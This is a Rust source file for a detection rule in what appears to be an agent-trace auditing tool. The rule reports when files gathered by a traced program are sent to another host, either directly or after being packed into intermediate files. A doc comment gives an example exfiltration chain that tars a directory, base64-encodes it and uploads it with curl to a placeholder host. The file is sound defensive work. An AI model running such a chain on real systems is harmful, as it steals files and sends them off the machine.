//! Files that a program gathered, and that an entry may deny, were sent to another host: by the call that gathered them, or
//! from a file in which an earlier call packed them.

use std::collections::HashMap;

use agent_strace_effects::{Certainty, Effect, Kind};
use agent_strace_model::finding::{Level, RuleId};
use agent_strace_policy::Decision;

use super::{Act, Hit, RULE, egress, happened};

/// Files of one call that packed files are followed through: `tar c . > a; base64 a > b; curl -T b HOST`.
const ROUNDS: usize = 8;

/// Files that a call gathered, and the reason why one of them may be denied.
#[derive(Debug, Clone)]
struct Gathered {
    event: u32,
    files: String,
    reason: String,
}

pub(super) fn check(acts: &[Act<'_>], hits: &mut Vec<Hit>) {
    let mut packed: HashMap<&str, Gathered> = HashMap::new();
    let mut from = 0;
    while let Some(first) = acts.get(from) {
        let length = acts.iter().skip(from).take_while(|act| act.event == first.event).count();
        let call = acts.get(from..from + length).unwrap_or_default();
        send(call, from, &sources(call, &mut packed), hits);
        from += length;
    }
}

/// What a call read that an entry may deny, also from files in which it packed them before.
fn sources<'a>(call: &[Act<'a>], packed: &mut HashMap<&'a str, Gathered>) -> Vec<(&'a Effect, Gathered)> {
    for _ in 0..ROUNDS {
        let found: Vec<_> = call.iter().filter_map(|act| Some((act.effect, source(act, packed)?))).collect();
        let known = packed.len();
        pack(call, &found, packed);
        if packed.len() == known {
            return found;
        }
    }
    call.iter().filter_map(|act| Some((act.effect, source(act, packed)?))).collect()
}

/// Reports the first connection to each host that gets what the call gathered.
fn send(call: &[Act<'_>], from: usize, sources: &[(&Effect, Gathered)], hits: &mut Vec<Hit>) {
    let mut reported = std::collections::BTreeSet::new();
    for (at, act) in call.iter().enumerate() {
        // A connection that the policy denies is an error without this.
        let host = egress(act).filter(|_| act.judgement.decision != Decision::Denied);
        let Some(host) = host else { continue };
        let is_sent = |read: &Effect| read.origin.sent && act.effect.origin.sent || is_of_one_program(read, act.effect);
        let Some((_, found)) = sources.iter().find(|(read, _)| is_sent(read)) else { continue };
        if !reported.insert(host.clone()) {
            continue;
        }
        let Gathered { event, files, reason } = found;
        let is_earlier = *event != act.event;
        let when = if is_earlier { format!(", which event {event} packed") } else { String::new() };
        let message = format!("sends files of `{files}` to {host}{when}: {reason}");
        let since = if is_earlier { vec![(*event, format!("packs files of `{files}`"))] } else { Vec::new() };
        hits.push(Hit { since, ..Hit::at(from + at, &RULE, Level::Error, message) });
    }
}

/// Remembers the files in which the call stores what it gathered, unless they are known.
fn pack<'a>(call: &[Act<'a>], sources: &[(&Effect, Gathered)], packed: &mut HashMap<&'a str, Gathered>) {
    for act in call.iter().filter(|act| happened(act) && act.effect.certainty == Certainty::Exact) {
        let Kind::Write(target) = &act.effect.kind else { continue };
        let is_stored =
            |read: &Effect| read.origin.stored && act.effect.origin.stored || is_of_one_program(read, act.effect);
        if let Some((_, found)) = sources.iter().find(|(read, _)| is_stored(read)) {
            packed.entry(&target.path).or_insert_with(|| found.clone());
        }
    }
}

/// What an act read that an entry may deny: files that its program gathered, or a file in which they were packed.
fn source(act: &Act<'_>, packed: &HashMap<&str, Gathered>) -> Option<Gathered> {
    let Kind::Read(target) = &act.effect.kind else { return None };
    if !happened(act) || act.effect.origin.named {
        return None;
    }
    let is_open = act.judgement.decision == Decision::Unresolved
        && act.judgement.rule == RuleId::ScopeUnresolved
        && act.judgement.level < Level::Error;
    let open = act.judgement.left_open.as_ref().map(|open| &open.reason);
    let reason = open.or_else(|| is_open.then_some(&act.judgement.reason)).filter(|_| act.effect.gathered.is_some());
    match reason {
        Some(reason) => Some(Gathered { event: act.event, files: target.shown().into_owned(), reason: reason.clone() }),
        None => packed.get(target.path.as_str()).cloned(),
    }
}

/// One program does both: it is not the shell that connects them.
fn is_of_one_program(read: &Effect, other: &Effect) -> bool {
    read.origin.parent.is_some() && read.origin.parent == other.origin.parent
}
